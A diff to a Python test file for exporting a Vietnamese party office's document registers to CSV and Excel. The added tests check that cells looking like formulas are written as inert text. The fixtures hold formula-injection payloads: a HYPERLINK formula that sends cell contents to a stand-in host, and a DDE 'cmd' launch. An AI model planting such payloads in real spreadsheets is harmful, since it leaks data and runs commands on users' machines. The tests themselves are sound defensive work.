@@ -121,23 +121,23 @@ def books(office):
 def test_seal_log_rows(books):
     rows = list(exports.book_rows(books["viewer"], "seal", year=2026))
     assert [dict(zip(exports.SEAL_COLUMNS, r)) for r in rows] == [
-        {"STT": "1", "Ngày đóng dấu": "02/03/2026", "Số, ký hiệu văn bản": "01-BC/ĐU",
+        {"STT": 1, "Ngày đóng dấu": dt.date(2026, 3, 2), "Số, ký hiệu văn bản": "01-BC/ĐU",
          "Trích yếu": "Báo cáo sơ kết công tác Đảng quý I", "Người ký": "Phạm Văn Đức",
-         "Người đóng dấu": "Trần Thị Mai", "Số bản": "4", "Ghi chú": "Đóng dấu treo phụ lục"},
-        {"STT": "2", "Ngày đóng dấu": "04/03/2026", "Số, ký hiệu văn bản": "01-NQ/ĐU",
+         "Người đóng dấu": "Trần Thị Mai", "Số bản": 4, "Ghi chú": "Đóng dấu treo phụ lục"},
+        {"STT": 2, "Ngày đóng dấu": dt.date(2026, 3, 4), "Số, ký hiệu văn bản": "01-NQ/ĐU",
          "Trích yếu": "(Văn bản mật — không ghi trích yếu)", "Người ký": "Phạm Văn Đức",
-         "Người đóng dấu": "Lý Thị Ngọc", "Số bản": "2", "Ghi chú": ""}]
+         "Người đóng dấu": "Lý Thị Ngọc", "Số bản": 2, "Ghi chú": ""}]
     # a date range, and every stamping when none is given
     assert [r[2] for r in exports.book_rows(books["viewer"], "seal", date_from=dt.date(2026, 3, 3),
                                             date_to=dt.date(2026, 3, 31))] == ["01-NQ/ĐU"]
-    assert [r[0] for r in exports.book_rows(books["viewer"], "seal")] == ["1", "2", "3"]
+    assert [r[0] for r in exports.book_rows(books["viewer"], "seal")] == [1, 2, 3]
 
 
 def test_seal_handover_rows(books):
     rows = list(exports.book_rows(books["viewer"], "seal_handovers", year=2026))
     assert rows == [
-        ["1", "05/01/2026", "Lý Thị Ngọc", "Trần Thị Mai", "Phạm Văn Đức", "Phân công văn thư mới", ""],
-        ["2", "03/03/2026", "Trần Thị Mai", "Lý Thị Ngọc", "", "Nghỉ phép", ""]]
+        [1, dt.date(2026, 1, 5), "Lý Thị Ngọc", "Trần Thị Mai", "Phạm Văn Đức", "Phân công văn thư mới", ""],
+        [2, dt.date(2026, 3, 3), "Trần Thị Mai", "Lý Thị Ngọc", "", "Nghỉ phép", ""]]
     assert exports.COLUMNS["seal_handovers"][:4] == ["STT", "Ngày bàn giao", "Người giao", "Người nhận"]
 
 
@@ -145,9 +145,9 @@ def test_secret_books_hold_the_secret_documents_and_a_tuyet_mat_summary_only_wit
     rows = [dict(zip(exports.INCOMING_COLUMNS, r))
             for r in exports.book_rows(books["leader"], "secret_incoming", year=2026)]
     assert [(r["Số đến"], r["Nơi gửi"], r["Độ mật"], r["Trích yếu"]) for r in rows] == [
-        ("1", "Tỉnh ủy Tuyên Quang", "Mật", "Chỉ thị về bảo vệ bí mật nhà nước"),
-        ("2", "Huyện ủy Yên Sơn", "Tuyệt mật", "(Tuyệt mật — không ghi trích yếu)"),
-        ("3", "Huyện ủy Yên Sơn", "Tuyệt mật", "V/v phương án bảo vệ Đại hội")]
+        (1, "Tỉnh ủy Tuyên Quang", "Mật", "Chỉ thị về bảo vệ bí mật nhà nước"),
+        (2, "Huyện ủy Yên Sơn", "Tuyệt mật", "(Tuyệt mật — không ghi trích yếu)"),
+        (3, "Huyện ủy Yên Sơn", "Tuyệt mật", "V/v phương án bảo vệ Đại hội")]
     out = [dict(zip(exports.OUTGOING_COLUMNS, r))
            for r in exports.book_rows(books["admin"], "secret_outgoing", year=2026)]
     assert [(r["Số, ký hiệu"], r["Trích yếu"]) for r in out] == [
@@ -205,3 +205,124 @@ def test_printing_a_book_is_in_the_audit_log_and_a_refusal_is_not(books):
         exports.print_rows(books["clerk"], "secret_outgoing")
     assert audit.AuditEntry.select().count() == before
     assert audit.verify().ok
+
+
+# --- formulas are data; numbers and dates keep their type ---------------------------------------
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")", "=cmd|' /C calc'!A0",
+            "+SUM(1+1)", "-2+3", "@SUM(A1)"]
+# the registers trim a field's leading blanks; a writer is given them too
+BLANK_LED = ["\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def booby_trapped(office):
+    """Incoming documents whose text cells look like formulas, as a scanner subfolder, a sender
+    or a careless paste would make them; a contact whose name does too."""
+    clerk = office["clerk"]
+    for i, f in enumerate(FORMULAS):
+        D.register_incoming(clerk, arrived_at=T(2026, 3, 5 + i, 8, 30), sender=f, doc_number=f"{i + 1}-CV/HU",
+                            doc_date=dt.date(2026, 3, 1), doc_type="Công văn", summary=f, pages=12,
+                            copies=3, notes=f, deadline=dt.date(2026, 4, 1))
+    contacts.add_contact(clerk, "=HYPERLINK(\"http://x.example\")", "body", phone="+84 912 345 678")
+    return office
+
+
+def test_csv_cells_that_look_like_formulas_are_written_as_text(booby_trapped, tmp_path):
+    out = tmp_path / "den.csv"
+    assert exports.export(booby_trapped["viewer"], "incoming", "csv", out, year=2026) == len(FORMULAS)
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        rows = [dict(zip(exports.INCOMING_COLUMNS, r)) for r in list(csv.reader(f))[1:]]
+    for r in rows:
+        for col in ("Nơi gửi", "Trích yếu", "Ghi chú"):
+            assert r[col].startswith("'") and r[col][1:] in FORMULAS, (col, r[col])
+    assert [r["Nơi gửi"][1:] for r in rows] == FORMULAS
+    r = rows[0]                                   # numbers and dates as the register writes them
+    assert (r["Số đến"], r["Ngày đến"], r["Ngày văn bản"], r["Số trang"], r["Hạn xử lý"]) == (
+        "1", "05/03/2026 08:30", "01/03/2026", "12", "01/04/2026")
+    out = tmp_path / "danh-ba.csv"
+    exports.export(booby_trapped["viewer"], "directory", "csv", out)
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        contact = list(csv.reader(f))[1]
+    assert contact[0] == "'=HYPERLINK(\"http://x.example\")" and contact[6] == "'+84 912 345 678"
+
+
+def test_xlsx_cells_that_look_like_formulas_are_text_and_numbers_and_dates_are_typed(
+        booby_trapped, tmp_path):
+    from openpyxl import load_workbook
+    out = tmp_path / "den.xlsx"
+    assert exports.export(booby_trapped["viewer"], "incoming", "xlsx", out, year=2026) == len(FORMULAS)
+    ws = load_workbook(out).active
+    head = [c.value for c in ws[1]]
+    col = {h: i + 1 for i, h in enumerate(head)}
+    for row in range(2, 2 + len(FORMULAS)):
+        for h in ("Nơi gửi", "Trích yếu", "Ghi chú"):
+            c = ws.cell(row, col[h])
+            assert c.data_type != "f" and c.data_type == "s", (h, c.value)
+            assert c.value.startswith("'") and c.value[1:] in FORMULAS
+    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
+    no, arrived, dated = (ws.cell(2, col[h]) for h in ("Số đến", "Ngày đến", "Ngày văn bản"))
+    assert no.value == 1 and no.data_type == "n"
+    assert ws.cell(2, col["Số trang"]).value == 12 and ws.cell(2, col["Số bản"]).value == 3
+    assert arrived.is_date and arrived.value == T(2026, 3, 5, 8, 30)
+    assert arrived.number_format == "DD/MM/YYYY HH:MM"
+    assert dated.is_date and dated.value == T(2026, 3, 1) and dated.number_format == "DD/MM/YYYY"
+    deadline = ws.cell(2, col["Hạn xử lý"])
+    assert deadline.is_date and deadline.number_format == "DD/MM/YYYY"
+    assert ws.cell(2, col["Ngày chuyển"]).value is None            # not transferred: empty
+
+
+def test_both_writers_neutralise_every_formula_start(tmp_path):
+    from openpyxl import load_workbook
+    cells = FORMULAS + BLANK_LED + ["=1+1 ở giữa", "Bình thường = 2", "a-b", ""]
+    rows = [[i, dt.date(2026, 3, i + 1), c] for i, c in enumerate(cells)]
+    exports.write_csv(tmp_path / "x.csv", ["STT", "Ngày", "=Tiêu đề"], rows)
+    with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
+        got = list(csv.reader(f))
+    exports.write_xlsx(tmp_path / "x.xlsx", ["STT", "Ngày", "=Tiêu đề"], rows)
+    ws = load_workbook(tmp_path / "x.xlsx").active
+    assert got[0][2] == ws["C1"].value == "'=Tiêu đề"
+    for i, c in enumerate(cells, start=1):
+        expected = ("'" + c) if c[:1] in ("=", "+", "-", "@", "\t", "\r") else c
+        assert got[i] == [str(i - 1), f"{i:02d}/03/2026", expected]
+        assert ws.cell(i + 1, 3).data_type != "f"
+        assert (ws.cell(i + 1, 3).value or "") == expected.replace("\r", "\n")   # XML reads CR as LF
+        assert ws.cell(i + 1, 1).value == i - 1 and ws.cell(i + 1, 2).is_date
+
+
+def test_xlsx_holds_text_with_control_characters(office, tmp_path):
+    from openpyxl import load_workbook
+    D.register_incoming(office["clerk"], arrived_at=T(2026, 3, 5, 8, 30), sender="Huyện\x01 ủy",
+                        summary="Báo cáo\x0b tháng")
+    out = tmp_path / "den.xlsx"
+    assert exports.export(office["viewer"], "incoming", "xlsx", out, year=2026) == 1
+    ws = load_workbook(out).active
+    assert (ws["C2"].value, ws["G2"].value) == ("Huyện ủy", "Báo cáo tháng")
+
+
+def test_export_writes_through_the_crash_safe_writer(regs, office, tmp_path):
+    """Owner-only, and nothing but the file in its folder afterwards (no temporary left)."""
+    folder = tmp_path / "xuat"
+    for fmt in exports.FORMATS:
+        out = folder / f"den.{fmt}"
+        exports.export(office["viewer"], "incoming", fmt, out, year=2026)
+        assert out.stat().st_mode & 0o777 == 0o600
+    assert sorted(p.name for p in folder.iterdir()) == ["den.csv", "den.xlsx"]
+
+
+@pytest.mark.parametrize("name, chosen, fmt, written", [
+    ("x.xlsx", "csv", "xlsx", "x.xlsx"), ("x.CSV", "xlsx", "csv", "x.CSV"),
+    ("so-den", "xlsx", "xlsx", "so-den.xlsx"), ("so-den.2026", "csv", "csv", "so-den.2026.csv")])
+def test_the_file_name_decides_the_format(tmp_path, name, chosen, fmt, written):
+    assert exports.export_target(tmp_path / name, chosen) == (fmt, tmp_path / written)
+
+
+def test_a_text_longer_than_an_excel_cell_is_cut_there_and_says_so(tmp_path):
+    from openpyxl import load_workbook
+    long = "Trích yếu rất dài " * 6000                          # 108 000 characters
+    exports.write_xlsx(tmp_path / "x.xlsx", ["Trích yếu"], [[long]])
+    exports.write_csv(tmp_path / "x.csv", ["Trích yếu"], [[long]])
+    v = load_workbook(tmp_path / "x.xlsx").active["A2"].value
+    assert len(v) == exports.EXCEL_CELL_MAX and v.endswith(exports.EXCEL_CUT)
+    assert long.startswith(v[:-len(exports.EXCEL_CUT)])
+    with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
+        assert list(csv.reader(f))[1] == [long]                  # the CSV keeps it whole
